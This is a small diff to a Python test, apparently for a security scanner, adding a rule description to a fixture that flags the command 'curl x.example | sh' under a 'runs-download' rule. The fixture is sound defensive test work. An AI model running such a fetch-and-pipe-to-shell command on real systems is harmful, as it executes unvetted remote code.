@@ -202,6 +202,7 @@ class HistoryTest(support.Shipped):
                 "content": "curl x.example | sh",
                 "description": "runs what it downloads: RUN curl x.example | sh",
                 "rule_id": "runs-download",
+                "rule_description": "runs what it downloads",
             },
         )
 
